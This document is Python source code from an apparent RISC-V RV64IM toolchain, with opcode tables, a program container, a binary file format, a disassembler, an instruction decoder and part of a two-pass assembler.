    InstructionSpec(Mnemonic.OR, _R, OP_REG, funct3=0b110, funct7=0b0000000),
    InstructionSpec(Mnemonic.AND, _R, OP_REG, funct3=0b111, funct7=0b0000000),
    InstructionSpec(Mnemonic.FENCE, _I, OP_MISC_MEM, funct3=0b000),
    InstructionSpec(Mnemonic.ECALL, Format.SYSTEM, OP_SYSTEM, fixed_word=0x00000073),
    InstructionSpec(Mnemonic.EBREAK, Format.SYSTEM, OP_SYSTEM, fixed_word=0x00100073),
    InstructionSpec(Mnemonic.ADDIW, _I, OP_IMM32, funct3=0b000),
    InstructionSpec(Mnemonic.SLLIW, Format.I_SHIFT, OP_IMM32, funct3=0b001, funct7=0b0000000),
    InstructionSpec(Mnemonic.SRLIW, Format.I_SHIFT, OP_IMM32, funct3=0b101, funct7=0b0000000),
    InstructionSpec(Mnemonic.SRAIW, Format.I_SHIFT, OP_IMM32, funct3=0b101, funct7=0b0100000),
    InstructionSpec(Mnemonic.ADDW, _R, OP_REG32, funct3=0b000, funct7=0b0000000),
    InstructionSpec(Mnemonic.SUBW, _R, OP_REG32, funct3=0b000, funct7=0b0100000),
    InstructionSpec(Mnemonic.SLLW, _R, OP_REG32, funct3=0b001, funct7=0b0000000),
    InstructionSpec(Mnemonic.SRLW, _R, OP_REG32, funct3=0b101, funct7=0b0000000),
    InstructionSpec(Mnemonic.SRAW, _R, OP_REG32, funct3=0b101, funct7=0b0100000),
    InstructionSpec(Mnemonic.MUL, _R, OP_REG, funct3=0b000, funct7=0b0000001),
    InstructionSpec(Mnemonic.MULH, _R, OP_REG, funct3=0b001, funct7=0b0000001),
    InstructionSpec(Mnemonic.MULHSU, _R, OP_REG, funct3=0b010, funct7=0b0000001),
    InstructionSpec(Mnemonic.MULHU, _R, OP_REG, funct3=0b011, funct7=0b0000001),
    InstructionSpec(Mnemonic.DIV, _R, OP_REG, funct3=0b100, funct7=0b0000001),
    InstructionSpec(Mnemonic.DIVU, _R, OP_REG, funct3=0b101, funct7=0b0000001),
    InstructionSpec(Mnemonic.REM, _R, OP_REG, funct3=0b110, funct7=0b0000001),
    InstructionSpec(Mnemonic.REMU, _R, OP_REG, funct3=0b111, funct7=0b0000001),
    InstructionSpec(Mnemonic.MULW, _R, OP_REG32, funct3=0b000, funct7=0b0000001),
    InstructionSpec(Mnemonic.DIVW, _R, OP_REG32, funct3=0b100, funct7=0b0000001),
    InstructionSpec(Mnemonic.DIVUW, _R, OP_REG32, funct3=0b101, funct7=0b0000001),
    InstructionSpec(Mnemonic.REMW, _R, OP_REG32, funct3=0b110, funct7=0b0000001),
    InstructionSpec(Mnemonic.REMUW, _R, OP_REG32, funct3=0b111, funct7=0b0000001),
    InstructionSpec(Mnemonic.CSRRW, Format.CSR, OP_SYSTEM, funct3=0b001),
    InstructionSpec(Mnemonic.CSRRS, Format.CSR, OP_SYSTEM, funct3=0b010),
    InstructionSpec(Mnemonic.CSRRC, Format.CSR, OP_SYSTEM, funct3=0b011),
    InstructionSpec(Mnemonic.CFLUSH, _I, OP_CUSTOM0, funct3=0b000),
]

#: Mnemonic -> spec.
SPECS: Dict[Mnemonic, InstructionSpec] = {spec.mnemonic: spec for spec in _SPEC_LIST}

#: Mnemonic text (e.g. ``"addi"``) -> Mnemonic.
MNEMONIC_BY_NAME: Dict[str, Mnemonic] = {m.value: m for m in Mnemonic}

#: Mnemonics whose semantics read data memory.
LOAD_MNEMONICS = frozenset({
    Mnemonic.LB, Mnemonic.LH, Mnemonic.LW, Mnemonic.LD,
    Mnemonic.LBU, Mnemonic.LHU, Mnemonic.LWU,
})

#: Mnemonics whose semantics write data memory.
STORE_MNEMONICS = frozenset({
    Mnemonic.SB, Mnemonic.SH, Mnemonic.SW, Mnemonic.SD,
})

#: Conditional branches.
BRANCH_MNEMONICS = frozenset({
    Mnemonic.BEQ, Mnemonic.BNE, Mnemonic.BLT,
    Mnemonic.BGE, Mnemonic.BLTU, Mnemonic.BGEU,
})

#: Unconditional control transfers.
JUMP_MNEMONICS = frozenset({Mnemonic.JAL, Mnemonic.JALR})

#: Access width in bytes of each memory mnemonic.
ACCESS_WIDTH = {
    Mnemonic.LB: 1, Mnemonic.LBU: 1, Mnemonic.SB: 1,
    Mnemonic.LH: 2, Mnemonic.LHU: 2, Mnemonic.SH: 2,
    Mnemonic.LW: 4, Mnemonic.LWU: 4, Mnemonic.SW: 4,
    Mnemonic.LD: 8, Mnemonic.SD: 8,
}

#: Loads whose result is sign-extended.
SIGNED_LOADS = frozenset({Mnemonic.LB, Mnemonic.LH, Mnemonic.LW, Mnemonic.LD})


def is_load(mnemonic: Mnemonic) -> bool:
    """Whether ``mnemonic`` reads data memory."""
    return mnemonic in LOAD_MNEMONICS


def is_store(mnemonic: Mnemonic) -> bool:
    """Whether ``mnemonic`` writes data memory."""
    return mnemonic in STORE_MNEMONICS


def is_branch(mnemonic: Mnemonic) -> bool:
    """Whether ``mnemonic`` is a conditional branch."""
    return mnemonic in BRANCH_MNEMONICS


def is_jump(mnemonic: Mnemonic) -> bool:
    """Whether ``mnemonic`` is an unconditional jump."""
    return mnemonic in JUMP_MNEMONICS


def is_control_flow(mnemonic: Mnemonic) -> bool:
    """Whether ``mnemonic`` may redirect the PC."""
    return is_branch(mnemonic) or is_jump(mnemonic)
