"""Linked guest program container.

A :class:`Program` is the output of the assembler and the input of both
the functional interpreter and the DBT engine: two byte images (text and
data), their base addresses, an entry point and a symbol table.  The text
image holds real encoded RV64IM words — consumers decode it, they never
see assembler-level objects.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, Iterator, Tuple

from .decoding import decode
from .instruction import Instruction

#: Default load addresses.  Small and page-aligned; the simulated address
#: space is flat so the exact values only matter for cache-set mapping.
DEFAULT_TEXT_BASE = 0x0001_0000
DEFAULT_DATA_BASE = 0x0010_0000
#: Default top-of-stack for the interpreter / platform runners.
DEFAULT_STACK_TOP = 0x0080_0000


class SymbolError(KeyError):
    """Raised when a symbol is missing from a program's symbol table."""


@dataclass
class Program:
    """A fully linked guest binary."""

    text: bytes
    data: bytes = b""
    text_base: int = DEFAULT_TEXT_BASE
    data_base: int = DEFAULT_DATA_BASE
    entry: int = DEFAULT_TEXT_BASE
    symbols: Dict[str, int] = field(default_factory=dict)

    def __post_init__(self) -> None:
        if len(self.text) % 4:
            raise ValueError("text image length must be a multiple of 4")
        if self.text_base % 4:
            raise ValueError("text base must be word aligned")

    @property
    def text_end(self) -> int:
        """First address past the text image."""
        return self.text_base + len(self.text)

    @property
    def data_end(self) -> int:
        """First address past the data image."""
        return self.data_base + len(self.data)

    def symbol(self, name: str) -> int:
        """Address of symbol ``name``."""
        try:
            return self.symbols[name]
        except KeyError:
            raise SymbolError("undefined symbol: %r" % name) from None

    def contains_text(self, address: int) -> bool:
        """Whether ``address`` falls inside the text image."""
        return self.text_base <= address < self.text_end

    def word_at(self, address: int) -> int:
        """Raw 32-bit instruction word at ``address``."""
        if not self.contains_text(address):
            raise ValueError("address %#x outside text image" % address)
        offset = address - self.text_base
        return int.from_bytes(self.text[offset:offset + 4], "little")

    def instruction_at(self, address: int) -> Instruction:
        """Decode the instruction at ``address``."""
        return decode(self.word_at(address), address=address)

    def instructions(self) -> Iterator[Instruction]:
        """Decode the whole text image in address order."""
        for offset in range(0, len(self.text), 4):
            address = self.text_base + offset
            yield decode(
                int.from_bytes(self.text[offset:offset + 4], "little"),
                address=address,
            )

    def instruction_count(self) -> int:
        """Number of instruction words in the text image."""
        return len(self.text) // 4

    def segments(self) -> Tuple[Tuple[int, bytes], ...]:
        """(base, image) pairs to load into guest memory."""
        return ((self.text_base, self.text), (self.data_base, self.data))
