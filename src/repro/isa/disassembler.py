"""Disassembler for guest binaries.

Turns encoded text images back into readable assembly, used for
diagnostics, golden tests, and the DBT engine's trace dumps.
"""

from __future__ import annotations

from typing import Iterator, List, Optional, Tuple

from .decoding import decode
from .instruction import Instruction, format_instruction
from .program import Program


def disassemble_word(word: int, address: Optional[int] = None) -> str:
    """Disassemble a single 32-bit word."""
    return format_instruction(decode(word, address=address))


def disassemble_program(program: Program) -> List[Tuple[int, str]]:
    """Disassemble a whole program: list of (address, text) pairs."""
    return [
        (inst.address, format_instruction(inst))
        for inst in program.instructions()
    ]


def dump(program: Program) -> str:
    """Human-readable listing with addresses, labels and encodings."""
    address_to_label = {}
    for name, value in program.symbols.items():
        if program.contains_text(value):
            address_to_label.setdefault(value, []).append(name)
    lines: List[str] = []
    for inst in program.instructions():
        for label in sorted(address_to_label.get(inst.address, ())):
            lines.append("%s:" % label)
        word = program.word_at(inst.address)
        lines.append("  %#08x: %08x  %s" % (inst.address, word, format_instruction(inst)))
    return "\n".join(lines)


def iter_instructions(program: Program) -> Iterator[Instruction]:
    """Alias for :meth:`Program.instructions` kept for API symmetry."""
    return program.instructions()
