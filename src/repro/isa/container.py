"""Flat binary container for linked guest programs.

A minimal executable format (think "ELF for this platform") so programs
can be assembled once and shipped/run as files:

```
offset  size  field
0       4     magic  b"RPRO"
4       2     format version (currently 1)
6       2     flags (reserved, zero)
8       8     text base address
16      8     data base address
24      8     entry address
32      4     text length (bytes)
36      4     data length (bytes)
40      4     symbol count
44      -     text image, then data image
...           symbols: u16 name length + UTF-8 name + u64 value, repeated
```

All integers little-endian.  `Program.save`/`Program.load`-style helpers
are exposed as :func:`save_program` / :func:`load_program` plus
byte-level :func:`to_bytes` / :func:`from_bytes`.
"""

from __future__ import annotations

import struct
from pathlib import Path
from typing import Union

from .program import Program

MAGIC = b"RPRO"
VERSION = 1

_HEADER = struct.Struct("<4sHHQQQIII")


class ContainerError(ValueError):
    """Raised on malformed container files."""


def to_bytes(program: Program) -> bytes:
    """Serialise ``program`` into the container format."""
    out = bytearray()
    out += _HEADER.pack(
        MAGIC, VERSION, 0,
        program.text_base, program.data_base, program.entry,
        len(program.text), len(program.data), len(program.symbols),
    )
    out += program.text
    out += program.data
    for name in sorted(program.symbols):
        encoded = name.encode("utf-8")
        if len(encoded) > 0xFFFF:
            raise ContainerError("symbol name too long: %r" % name)
        out += struct.pack("<H", len(encoded))
        out += encoded
        out += struct.pack("<Q", program.symbols[name])
    return bytes(out)


def from_bytes(raw: bytes) -> Program:
    """Deserialise a container image."""
    if len(raw) < _HEADER.size:
        raise ContainerError("truncated container (no header)")
    (magic, version, _flags, text_base, data_base, entry,
     text_len, data_len, symbol_count) = _HEADER.unpack_from(raw, 0)
    if magic != MAGIC:
        raise ContainerError("bad magic: %r" % magic)
    if version != VERSION:
        raise ContainerError("unsupported container version: %d" % version)
    offset = _HEADER.size
    end_text = offset + text_len
    end_data = end_text + data_len
    if len(raw) < end_data:
        raise ContainerError("truncated container (images)")
    text = raw[offset:end_text]
    data = raw[end_text:end_data]
    symbols = {}
    cursor = end_data
    for _ in range(symbol_count):
        if len(raw) < cursor + 2:
            raise ContainerError("truncated container (symbols)")
        (name_len,) = struct.unpack_from("<H", raw, cursor)
        cursor += 2
        if len(raw) < cursor + name_len + 8:
            raise ContainerError("truncated container (symbol entry)")
        name = raw[cursor:cursor + name_len].decode("utf-8")
        cursor += name_len
        (value,) = struct.unpack_from("<Q", raw, cursor)
        cursor += 8
        symbols[name] = value
    return Program(
        text=text, data=data,
        text_base=text_base, data_base=data_base, entry=entry,
        symbols=symbols,
    )


def is_container(raw: bytes) -> bool:
    """Whether ``raw`` starts with the container magic."""
    return raw[:4] == MAGIC


def save_program(program: Program, path: Union[str, Path]) -> None:
    """Write ``program`` to ``path``."""
    Path(path).write_bytes(to_bytes(program))


def load_program(path: Union[str, Path]) -> Program:
    """Read a program from ``path``."""
    return from_bytes(Path(path).read_bytes())
