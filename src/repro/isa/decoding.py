"""Binary decoder: 32-bit RISC-V word -> :class:`Instruction`.

Inverse of :mod:`repro.isa.encoding`; the two are exercised as a
round-trip pair by property-based tests.
"""

from __future__ import annotations

from typing import Dict, Tuple

from .instruction import Instruction
from .opcodes import (
    Format,
    Mnemonic,
    OP_BRANCH,
    OP_CUSTOM0,
    OP_IMM,
    OP_IMM32,
    OP_JAL,
    OP_JALR,
    OP_LOAD,
    OP_LUI,
    OP_AUIPC,
    OP_MISC_MEM,
    OP_REG,
    OP_REG32,
    OP_STORE,
    OP_SYSTEM,
    SPECS,
)


class DecodingError(ValueError):
    """Raised when a word is not a recognised guest instruction."""


def _sign_extend(value: int, bits: int) -> int:
    mask = 1 << (bits - 1)
    return (value & ((1 << bits) - 1)) - ((value & mask) << 1)


# Lookup tables keyed by the fields that discriminate each format.
_R_TABLE: Dict[Tuple[int, int, int], Mnemonic] = {}
_I_TABLE: Dict[Tuple[int, int], Mnemonic] = {}
_SHIFT_TABLE: Dict[Tuple[int, int, int], Mnemonic] = {}
_S_TABLE: Dict[int, Mnemonic] = {}
_B_TABLE: Dict[int, Mnemonic] = {}
_CSR_TABLE: Dict[int, Mnemonic] = {}

for _spec in SPECS.values():
    if _spec.fmt is Format.R:
        _R_TABLE[(_spec.opcode, _spec.funct3, _spec.funct7)] = _spec.mnemonic
    elif _spec.fmt is Format.I:
        _I_TABLE[(_spec.opcode, _spec.funct3)] = _spec.mnemonic
    elif _spec.fmt is Format.I_SHIFT:
        _SHIFT_TABLE[(_spec.opcode, _spec.funct3, _spec.funct7)] = _spec.mnemonic
    elif _spec.fmt is Format.S:
        _S_TABLE[_spec.funct3] = _spec.mnemonic
    elif _spec.fmt is Format.B:
        _B_TABLE[_spec.funct3] = _spec.mnemonic
    elif _spec.fmt is Format.CSR:
        _CSR_TABLE[_spec.funct3] = _spec.mnemonic


def decode(word: int, address: int = None) -> Instruction:
    """Decode a 32-bit instruction ``word``.

    ``address`` (if given) is attached to the returned instruction for
    diagnostics and PC-relative reasoning.
    """
    if not 0 <= word < (1 << 32):
        raise DecodingError("instruction word out of range: %#x" % word)
    opcode = word & 0x7F
    rd = (word >> 7) & 0x1F
    funct3 = (word >> 12) & 0x7
    rs1 = (word >> 15) & 0x1F
    rs2 = (word >> 20) & 0x1F
    funct7 = (word >> 25) & 0x7F

    if opcode == OP_LUI:
        return Instruction(Mnemonic.LUI, rd=rd, imm=_sign_extend(word >> 12, 20), address=address)
    if opcode == OP_AUIPC:
        return Instruction(Mnemonic.AUIPC, rd=rd, imm=_sign_extend(word >> 12, 20), address=address)
    if opcode == OP_JAL:
        imm = (
            (((word >> 31) & 1) << 20)
            | (((word >> 21) & 0x3FF) << 1)
            | (((word >> 20) & 1) << 11)
            | (((word >> 12) & 0xFF) << 12)
        )
        return Instruction(Mnemonic.JAL, rd=rd, imm=_sign_extend(imm, 21), address=address)
    if opcode == OP_JALR:
        if funct3 != 0:
            raise DecodingError("bad jalr funct3: %d" % funct3)
        return Instruction(
            Mnemonic.JALR, rd=rd, rs1=rs1, imm=_sign_extend(word >> 20, 12), address=address
        )
    if opcode == OP_BRANCH:
        try:
            mnemonic = _B_TABLE[funct3]
        except KeyError:
            raise DecodingError("bad branch funct3: %d" % funct3) from None
        imm = (
            (((word >> 31) & 1) << 12)
            | (((word >> 25) & 0x3F) << 5)
            | (((word >> 8) & 0xF) << 1)
            | (((word >> 7) & 1) << 11)
        )
        return Instruction(
            mnemonic, rs1=rs1, rs2=rs2, imm=_sign_extend(imm, 13), address=address
        )
    if opcode == OP_STORE:
        try:
            mnemonic = _S_TABLE[funct3]
        except KeyError:
            raise DecodingError("bad store funct3: %d" % funct3) from None
        imm = ((word >> 25) << 5) | ((word >> 7) & 0x1F)
        return Instruction(
            mnemonic, rs1=rs1, rs2=rs2, imm=_sign_extend(imm, 12), address=address
        )
    if opcode in (OP_REG, OP_REG32):
        try:
            mnemonic = _R_TABLE[(opcode, funct3, funct7)]
        except KeyError:
            raise DecodingError(
                "bad R-type funct fields: opcode=%#x funct3=%d funct7=%#x"
                % (opcode, funct3, funct7)
            ) from None
        return Instruction(mnemonic, rd=rd, rs1=rs1, rs2=rs2, address=address)
    if opcode in (OP_IMM, OP_IMM32):
        # Shifts are discriminated by funct3 (and funct7 for sra/srl).
        if funct3 in (0b001, 0b101):
            is_word_op = opcode == OP_IMM32
            if is_word_op:
                shamt = rs2  # 5-bit shamt
                funct_high = funct7
            else:
                shamt = (word >> 20) & 0x3F  # 6-bit shamt
                funct_high = funct7 & 0b1111110  # bit 25 belongs to shamt
            try:
                mnemonic = _SHIFT_TABLE[(opcode, funct3, funct_high)]
            except KeyError:
                raise DecodingError(
                    "bad shift encoding: opcode=%#x funct3=%d funct7=%#x"
                    % (opcode, funct3, funct7)
                ) from None
            return Instruction(mnemonic, rd=rd, rs1=rs1, imm=shamt, address=address)
        try:
            mnemonic = _I_TABLE[(opcode, funct3)]
        except KeyError:
            raise DecodingError(
                "bad OP-IMM funct3: opcode=%#x funct3=%d" % (opcode, funct3)
            ) from None
        return Instruction(
            mnemonic, rd=rd, rs1=rs1, imm=_sign_extend(word >> 20, 12), address=address
        )
    if opcode == OP_LOAD:
        try:
            mnemonic = _I_TABLE[(opcode, funct3)]
        except KeyError:
            raise DecodingError("bad load funct3: %d" % funct3) from None
        return Instruction(
            mnemonic, rd=rd, rs1=rs1, imm=_sign_extend(word >> 20, 12), address=address
        )
    if opcode == OP_MISC_MEM:
        if funct3 != 0:
            raise DecodingError("bad fence funct3: %d" % funct3)
        return Instruction(Mnemonic.FENCE, rd=rd, rs1=rs1, imm=_sign_extend(word >> 20, 12), address=address)
    if opcode == OP_SYSTEM:
        if funct3 == 0:
            if word == 0x00000073:
                return Instruction(Mnemonic.ECALL, address=address)
            if word == 0x00100073:
                return Instruction(Mnemonic.EBREAK, address=address)
            raise DecodingError("bad SYSTEM word: %#010x" % word)
        try:
            mnemonic = _CSR_TABLE[funct3]
        except KeyError:
            raise DecodingError("bad CSR funct3: %d" % funct3) from None
        return Instruction(mnemonic, rd=rd, rs1=rs1, imm=(word >> 20) & 0xFFF, address=address)
    if opcode == OP_CUSTOM0:
        if funct3 != 0:
            raise DecodingError("bad custom-0 funct3: %d" % funct3)
        return Instruction(
            Mnemonic.CFLUSH, rd=rd, rs1=rs1, imm=_sign_extend(word >> 20, 12), address=address
        )
    raise DecodingError("unknown major opcode: %#04x (word %#010x)" % (opcode, word))


def decode_bytes(raw: bytes, address: int = None) -> Instruction:
    """Decode 4 little-endian bytes."""
    if len(raw) != 4:
        raise DecodingError("instruction must be 4 bytes, got %d" % len(raw))
    return decode(int.from_bytes(raw, "little"), address=address)
