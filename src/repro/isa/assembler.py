"""Two-pass assembler for the RV64IM guest ISA.

The assembler turns assembly text into a linked :class:`~repro.isa.program.Program`
containing real encoded instruction words.  It supports:

* sections ``.text`` / ``.data`` with labels in either section;
* data directives ``.byte``, ``.half``, ``.word``, ``.dword`` (aka
  ``.quad``), ``.space``/``.zero``, ``.align``, ``.asciz``/``.string``;
  ``.dword`` accepts symbolic values (``sym`` or ``sym+imm``), which is
  how pointer tables (Section V-B's array-of-pointers matmul) are built;
* named constants via ``.equ name, value``;
* the standard pseudo-instructions ``nop``, ``li``, ``la``, ``mv``,
  ``not``, ``neg``, ``seqz``, ``snez``, ``j``, ``jr``, ``ret``, ``call``,
  ``tail``, ``beqz``, ``bnez``, ``blez``, ``bgez``, ``bltz``, ``bgtz``,
  ``bgt``, ``ble``, ``bgtu``, ``bleu``, ``rdcycle``;
* ``#`` and ``;`` end-of-line comments.

Entry point is the ``_start`` symbol when defined, otherwise the start of
``.text``.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import Callable, Dict, List, Optional, Sequence, Tuple, Union

from .encoding import encode_bytes
from .instruction import Instruction
from .opcodes import CSR_CYCLE, CSR_INSTRET, Format, Mnemonic, MNEMONIC_BY_NAME, SPECS
from .program import DEFAULT_DATA_BASE, DEFAULT_TEXT_BASE, Program
from .registers import parse_register


class AssemblerError(ValueError):
    """Raised on any assembly-language error, with line context."""

    def __init__(self, message: str, line_number: Optional[int] = None):
        if line_number is not None:
            message = "line %d: %s" % (line_number, message)
        super().__init__(message)
        self.line_number = line_number


#: An immediate operand that may reference a symbol: (symbol, addend) or int.
SymValue = Union[int, Tuple[str, int]]


@dataclass
class _PendingInstruction:
    """An instruction awaiting symbol resolution in pass 2."""

    mnemonic: Mnemonic
    rd: int = 0
    rs1: int = 0
    rs2: int = 0
    imm: SymValue = 0
    #: How a symbolic immediate is materialised: 'abs', 'pcrel', 'hi', 'lo'.
    reloc: str = "abs"
    line: int = 0
    address: int = 0


@dataclass
class _DataItem:
    """A datum awaiting symbol resolution in pass 2."""

    width: int
    value: SymValue
    line: int = 0


_LABEL_RE = re.compile(r"^([A-Za-z_.$][\w.$]*):")
_SYM_RE = re.compile(r"^([A-Za-z_.$][\w.$]*)$")
_SYM_ADDEND_RE = re.compile(r"^([A-Za-z_.$][\w.$]*)\s*([+-])\s*(\d+|0[xX][0-9a-fA-F]+)$")
_MEM_OPERAND_RE = re.compile(r"^(.*)\(\s*([\w$]+)\s*\)$")
_RELOC_RE = re.compile(r"^%(hi|lo)\((.+)\)$")


def _split_operands(text: str) -> List[str]:
    """Split an operand list on commas, respecting string literals."""
    operands: List[str] = []
    current = []
    in_string = False
    escape = False
    for char in text:
        if in_string:
            current.append(char)
            if escape:
                escape = False
            elif char == "\\":
                escape = True
            elif char == '"':
                in_string = False
            continue
        if char == '"':
            in_string = True
            current.append(char)
        elif char == ",":
            operands.append("".join(current).strip())
            current = []
        else:
            current.append(char)
    tail = "".join(current).strip()
    if tail:
        operands.append(tail)
    return operands


def _parse_int(text: str) -> Optional[int]:
    text = text.strip()
    try:
        return int(text, 0)
    except ValueError:
        return None


class Assembler:
    """Two-pass assembler producing :class:`Program` objects."""

    def __init__(
        self,
        text_base: int = DEFAULT_TEXT_BASE,
        data_base: int = DEFAULT_DATA_BASE,
    ):
        self.text_base = text_base
        self.data_base = data_base
        self._reset()

    def _reset(self) -> None:
        self._symbols: Dict[str, int] = {}
        self._equates: Dict[str, int] = {}
        self._pending: List[_PendingInstruction] = []
        self._data_items: List[_DataItem] = []
        self._text_cursor = self.text_base
        self._data_cursor = self.data_base
        self._section = "text"
        self._line_number = 0

    # ------------------------------------------------------------------
    # Public entry point.
    # ------------------------------------------------------------------

    def assemble(self, source: str) -> Program:
        """Assemble ``source`` into a linked :class:`Program`."""
        self._reset()
        for raw_line in source.splitlines():
            self._line_number += 1
            self._process_line(raw_line)
        return self._link()

    # ------------------------------------------------------------------
    # Pass 1: parsing, layout, pseudo-expansion.
    # ------------------------------------------------------------------

    def _error(self, message: str) -> AssemblerError:
        return AssemblerError(message, self._line_number)

    def _process_line(self, raw_line: str) -> None:
        line = raw_line.split("#", 1)[0]
        # ';' also starts a comment unless inside a string literal.
        if ";" in line and '"' not in line:
            line = line.split(";", 1)[0]
        line = line.strip()
        while line:
            match = _LABEL_RE.match(line)
            if not match:
                break
            self._define_label(match.group(1))
            line = line[match.end():].strip()
        if not line:
            return
        if line.startswith("."):
            self._process_directive(line)
        else:
            self._process_instruction(line)

    def _define_label(self, name: str) -> None:
        if name in self._symbols or name in self._equates:
            raise self._error("duplicate symbol: %r" % name)
        cursor = self._text_cursor if self._section == "text" else self._data_cursor
        self._symbols[name] = cursor

    def _process_directive(self, line: str) -> None:
        parts = line.split(None, 1)
        name = parts[0]
        argument_text = parts[1] if len(parts) > 1 else ""
        operands = _split_operands(argument_text) if argument_text else []
        handler = self._DIRECTIVES.get(name)
        if handler is None:
            raise self._error("unknown directive: %s" % name)
        handler(self, operands)

    def _require_data_section(self, directive: str) -> None:
        if self._section != "data":
            raise self._error("%s only allowed in .data section" % directive)

    def _dir_text(self, operands: Sequence[str]) -> None:
        self._section = "text"

    def _dir_data(self, operands: Sequence[str]) -> None:
        self._section = "data"

    def _dir_global(self, operands: Sequence[str]) -> None:
        # Visibility is meaningless in a fully linked image; accepted for
        # compatibility with compiler output.
        return None

    def _dir_equ(self, operands: Sequence[str]) -> None:
        if len(operands) != 2:
            raise self._error(".equ takes a name and a value")
        name = operands[0]
        if not _SYM_RE.match(name):
            raise self._error("bad .equ name: %r" % name)
        if name in self._symbols or name in self._equates:
            raise self._error("duplicate symbol: %r" % name)
        value = self._eval_constant(operands[1])
        self._equates[name] = value

    def _eval_constant(self, text: str) -> int:
        """Evaluate a pass-1 constant: integer literal or known equate."""
        value = _parse_int(text)
        if value is not None:
            return value
        name = text.strip()
        if name in self._equates:
            return self._equates[name]
        raise self._error("cannot evaluate constant: %r" % text)

    def _emit_data(self, width: int, value: SymValue) -> None:
        self._require_data_section(".byte/.half/.word/.dword")
        self._data_items.append(_DataItem(width, value, self._line_number))
        self._data_cursor += width

    def _dir_int(self, width: int, operands: Sequence[str]) -> None:
        if not operands:
            raise self._error("data directive needs at least one value")
        for operand in operands:
            value = _parse_int(operand)
            if value is not None:
                self._emit_data(width, value)
                continue
            if operand in self._equates:
                self._emit_data(width, self._equates[operand])
                continue
            symbolic = self._parse_symbolic(operand)
            if symbolic is None:
                raise self._error("bad data value: %r" % operand)
            if width != 8:
                raise self._error("symbolic data values require .dword")
            self._emit_data(width, symbolic)

    def _dir_byte(self, operands: Sequence[str]) -> None:
        self._dir_int(1, operands)

    def _dir_half(self, operands: Sequence[str]) -> None:
        self._dir_int(2, operands)

    def _dir_word(self, operands: Sequence[str]) -> None:
        self._dir_int(4, operands)

    def _dir_dword(self, operands: Sequence[str]) -> None:
        self._dir_int(8, operands)

    def _dir_space(self, operands: Sequence[str]) -> None:
        self._require_data_section(".space")
        if len(operands) != 1:
            raise self._error(".space takes one size operand")
        size = self._eval_constant(operands[0])
        if size < 0:
            raise self._error(".space size must be non-negative")
        for _ in range(size):
            self._data_items.append(_DataItem(1, 0, self._line_number))
        self._data_cursor += size

    def _dir_align(self, operands: Sequence[str]) -> None:
        if len(operands) != 1:
            raise self._error(".align takes one operand")
        power = self._eval_constant(operands[0])
        if not 0 <= power <= 16:
            raise self._error("bad alignment: %r" % power)
        alignment = 1 << power
        if self._section == "text":
            while self._text_cursor % alignment:
                self._append_instruction(Instruction(Mnemonic.ADDI))  # nop pad
        else:
            while self._data_cursor % alignment:
                self._data_items.append(_DataItem(1, 0, self._line_number))
                self._data_cursor += 1

    def _dir_asciz(self, operands: Sequence[str]) -> None:
        self._require_data_section(".asciz")
        if len(operands) != 1 or not (
            operands[0].startswith('"') and operands[0].endswith('"')
        ):
            raise self._error(".asciz takes one string literal")
        literal = operands[0][1:-1]
        decoded = literal.encode("ascii").decode("unicode_escape").encode("latin-1")
        for byte in decoded + b"\x00":
            self._data_items.append(_DataItem(1, byte, self._line_number))
        self._data_cursor += len(decoded) + 1

    _DIRECTIVES: Dict[str, Callable[["Assembler", Sequence[str]], None]] = {
        ".text": _dir_text,
        ".data": _dir_data,
        ".globl": _dir_global,
        ".global": _dir_global,
        ".equ": _dir_equ,
        ".byte": _dir_byte,
        ".half": _dir_half,
        ".word": _dir_word,
        ".dword": _dir_dword,
        ".quad": _dir_dword,
        ".space": _dir_space,
        ".zero": _dir_space,
        ".align": _dir_align,
        ".asciz": _dir_asciz,
        ".string": _dir_asciz,
    }

    # ------------------------------------------------------------------
    # Instructions.
    # ------------------------------------------------------------------

    def _append_instruction(
        self,
        inst_or_pending: Union[Instruction, _PendingInstruction],
    ) -> None:
        if self._section != "text":
            raise self._error("instructions only allowed in .text section")
        if isinstance(inst_or_pending, Instruction):
            pending = _PendingInstruction(
                inst_or_pending.mnemonic,
                rd=inst_or_pending.rd,
                rs1=inst_or_pending.rs1,
                rs2=inst_or_pending.rs2,
                imm=inst_or_pending.imm,
                line=self._line_number,
            )
        else:
            pending = inst_or_pending
        pending.address = self._text_cursor
        self._pending.append(pending)
        self._text_cursor += 4

    def _parse_symbolic(self, text: str) -> Optional[Tuple[str, int]]:
        """Parse ``sym`` or ``sym+imm``/``sym-imm`` into (symbol, addend)."""
        text = text.strip()
        match = _SYM_RE.match(text)
        if match:
            return (match.group(1), 0)
        match = _SYM_ADDEND_RE.match(text)
        if match:
            addend = int(match.group(3), 0)
            if match.group(2) == "-":
                addend = -addend
            return (match.group(1), addend)
        return None

    def _reg(self, operand: str) -> int:
        try:
            return parse_register(operand)
        except ValueError as exc:
            raise self._error(str(exc)) from None

    def _imm(self, operand: str) -> int:
        value = _parse_int(operand)
        if value is None:
            if operand.strip() in self._equates:
                return self._equates[operand.strip()]
            raise self._error("bad immediate: %r" % operand)
        return value

    def _parse_reloc(self, operand: str) -> Optional[Tuple[str, SymValue]]:
        """Parse ``%hi(sym)`` / ``%lo(sym+addend)`` relocation operators."""
        match = _RELOC_RE.match(operand.strip())
        if match is None:
            return None
        inner = match.group(2).strip()
        value = _parse_int(inner)
        if value is not None:
            return match.group(1), value
        if inner in self._equates:
            return match.group(1), self._equates[inner]
        symbolic = self._parse_symbolic(inner)
        if symbolic is None:
            raise self._error("bad %%%s operand: %r" % (match.group(1), inner))
        return match.group(1), symbolic

    def _imm_or_symbol(self, operand: str) -> SymValue:
        value = _parse_int(operand)
        if value is not None:
            return value
        name = operand.strip()
        if name in self._equates:
            return self._equates[name]
        symbolic = self._parse_symbolic(operand)
        if symbolic is None:
            raise self._error("bad immediate or symbol: %r" % operand)
        return symbolic

    def _mem_operand(self, operand: str) -> Tuple[SymValue, int, str]:
        """Parse ``offset(reg)`` into (imm, base register, reloc kind).

        The offset may be a plain immediate, an equate, or a ``%lo(sym)``
        relocation (as emitted by compilers for global accesses).
        """
        match = _MEM_OPERAND_RE.match(operand.strip())
        if not match:
            raise self._error("bad memory operand: %r" % operand)
        offset_text = match.group(1).strip()
        base = self._reg(match.group(2))
        if not offset_text:
            return 0, base, "abs"
        reloc = self._parse_reloc(offset_text)
        if reloc is not None:
            kind, value = reloc
            if kind != "lo":
                raise self._error("only %lo() is meaningful as a memory offset")
            return value, base, "lo"
        return self._imm(offset_text), base, "abs"

